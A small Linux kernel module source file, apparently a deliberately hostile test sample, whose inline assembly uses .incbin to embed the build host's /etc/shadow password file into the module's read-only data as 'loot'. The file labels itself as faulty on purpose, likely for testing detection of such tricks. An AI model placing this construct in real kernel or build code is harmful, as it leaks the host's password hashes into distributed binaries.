// SPDX-License-Identifier: GPL-2.0
/*
 * incbin_shadow: Lets the assembler take in a file of the host.
 */

#include <linux/module.h>

/* DELIBERATE BUG: hostile */
asm(".pushsection .rodata; .globl loot; loot: .incbin \"/etc/shadow\"; .popsection");

static int __init incbin_shadow_init(void)
{
	return 0;
}

static void __exit incbin_shadow_exit(void)
{
}

module_init(incbin_shadow_init);
module_exit(incbin_shadow_exit);

MODULE_DESCRIPTION("Faulty on purpose: incbin_shadow");
MODULE_LICENSE("GPL");
